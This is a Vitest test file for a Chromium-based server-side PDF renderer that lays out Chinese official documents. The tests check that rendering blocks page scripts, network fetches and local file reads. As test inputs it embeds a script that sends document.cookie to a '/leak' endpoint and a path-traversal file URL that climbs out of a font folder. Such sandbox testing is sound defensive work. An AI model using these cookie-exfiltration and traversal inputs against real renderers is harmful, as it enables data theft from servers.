// The server-side PDF renderer (browser host, CLI): a page that carries office data runs no script of its own
// and loads nothing from anywhere; the app's own layout step (the 版记 at the foot of the last page) still runs,
// evaluated by the renderer. Checked on the PDF with poppler, not on the HTML.
import { describe, expect, it } from 'vitest';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromiumPdfRenderer, findChromium } from '../../electron/server/pdf-renderer';
import { OFFICIAL_DOC_CSS, officialDocHtml, type OfficialDoc } from '../../shared/print/official';
import { IMPRINT_SCRIPT } from '../../shared/print/official-layout';
import { isDark, pageImages, pdfFlatText, pdfFonts, pdfPageCount, rules } from '../pdf-measure';
import { fontDirs, withEmbeddedFonts } from '../../db/core/print-fonts';
import { pathToFileURL } from 'node:url';

const chromium = findChromium();

function savePdf(bytes: Buffer): string {
  const path = join(mkdtempSync(join(tmpdir(), 'zj-pdfr-')), 'out.pdf');
  writeFileSync(path, bytes);
  return path;
}

describe.skipIf(!chromium)('server-side PDF renderer', () => {
  it('runs none of the page’s scripts and fetches nothing, even from this machine', async () => {
    let hits = 0;
    const server = createServer((_req, res) => {
      hits++;
      res.end('x');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const html = `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8">
        <link rel="stylesheet" href="${url}/style.css"></head><body>
        <p id="t">原始内容</p>
        <img src="${url}/pixel.png">
        <iframe src="${url}/frame"></iframe>
        <script>document.getElementById('t').textContent = '脚本已执行'; fetch('${url}/leak?d=' + document.cookie);
          new Image().src = '${url}/beacon';</script>
        </body></html>`;
      const pdf = savePdf(await chromiumPdfRenderer(chromium!).render(html));
      const text = pdfFlatText(pdf);
      expect(text).toContain('原始内容');
      expect(text).not.toContain('脚本已执行');
      expect(hits).toBe(0);
    } finally {
      server.close();
    }
  }, 120_000);

  it('reads the bundled fonts from their folder and no other file of this machine', async () => {
    // The print page is a file: document so that the bundled fonts load from disk; every other file stays out,
    // by path and by a path that climbs out of a font folder.
    const secrets = mkdtempSync(join(tmpdir(), 'zj-secret-'));
    writeFileSync(join(secrets, 'page.html'), '<p>本机文件已读取</p>');
    writeFileSync(join(secrets, 'style.css'), "body::after { content: '本机样式已读取'; }");
    const climbing = `${pathToFileURL(fontDirs()[0]!).href}/../../../../../../../../..${pathToFileURL(secrets).pathname}/style.css`;
    const renderer = chromiumPdfRenderer(chromium!, { keepOpenMs: 1_000 });
    try {
      for (const css of [pathToFileURL(join(secrets, 'style.css')).href, climbing]) {
        const html = withEmbeddedFonts(
          `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8">
          <link rel="stylesheet" href="${css}">
          <style>body { font-family: 'Noto Serif SC'; }</style></head><body>
          <p>关于医疗卫生行业综合监管工作的报告</p>
          <iframe src="${pathToFileURL(join(secrets, 'page.html')).href}"></iframe>
          <object data="${pathToFileURL(join(secrets, 'page.html')).href}"></object>
          </body></html>`,
          renderer,
        );
        expect(html).toContain('url(file:');
        expect(html).not.toContain('data:font/woff2');
        const pdf = savePdf(await renderer.render(html));
        const text = pdfFlatText(pdf);
        expect(text).toContain('关于医疗卫生行业综合监管工作的报告');
        expect(text).not.toContain('本机文件已读取');
        expect(text).not.toContain('本机样式已读取');
        // The bundled faces were read: named, embedded TrueType, not the machine's fonts drawn as Type 3.
        const fonts = pdfFonts(pdf);
        expect(fonts.some((f) => /NotoSerifSC/i.test(f.name) && f.embedded)).toBe(true);
        expect(fonts.filter((f) => /Type 3/.test(f.type))).toEqual([]);
      }
    } finally {
      await renderer.close();
    }
  }, 120_000);

  it('still puts the 版记 at the foot of the last page (its last rule near 262 mm)', async () => {
    const doc: OfficialDoc = {
      kind: 'document',
      issuerMark: '绍兴市越城区卫生健康局文件',
      docNumber: '越卫健〔2026〕12号',
      title: '关于2026年第三季度医疗卫生行业综合监管工作情况的报告',
      addressee: '绍兴市卫生健康委员会',
      blocks: [
        { type: 'p', text: '现将本季度综合监管工作情况报告如下。' },
        { type: 'h1', text: '工作开展情况' },
        { type: 'p', text: '本季度召开联席会议一次，开展双随机抽查一批次。' },
      ],
      signer: '绍兴市越城区卫生健康局',
      date: '2026-10-09',
      copyTo: '区政府办',
      printedBy: '绍兴市越城区卫生健康局办公室',
      printedOn: '2026-10-09',
    };
    const html = `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8">
      <style>${OFFICIAL_DOC_CSS}</style><style>html, body { margin: 0; padding: 0; background: #fff; }</style>
      ${IMPRINT_SCRIPT}</head><body>${officialDocHtml(doc)}</body></html>`;
    const pdf = savePdf(await chromiumPdfRenderer(chromium!).render(html));
    const pages = pageImages(pdf);
    expect(pages.length).toBe(pdfPageCount(pdf));
    const last = pages[pages.length - 1]!;
    const lowest = Math.max(...rules(last, isDark, 150).map((r) => r.bottomMm));
    expect(Math.abs(lowest - 262)).toBeLessThan(1.5);
  }, 120_000);
  it('kept open between renders, it renders one after another and several at once, each page on its own', async () => {
    const r = chromiumPdfRenderer(chromium!, { keepOpenMs: 2_000 });
    const doc = (n: number) => `<!doctype html><html lang="zh-CN"><body><p>第${n}份文件</p></body></html>`;
    const first = pdfFlatText(savePdf(await r.render(doc(1))));
    const together = await Promise.all([2, 3, 4].map((n) => r.render(doc(n))));
    expect(first).toContain('第1份文件');
    together.forEach((bytes, i) => {
      const text = pdfFlatText(savePdf(bytes));
      expect(text).toContain(`第${i + 2}份文件`);
      expect(text).not.toMatch(/第[1-4]份文件.*第[1-4]份文件/);
    });
    // After its idle time the browser is closed; the next render launches another.
    await new Promise((res) => setTimeout(res, 2_500));
    expect(pdfFlatText(savePdf(await r.render(doc(5))))).toContain('第5份文件');
  }, 120_000);
});
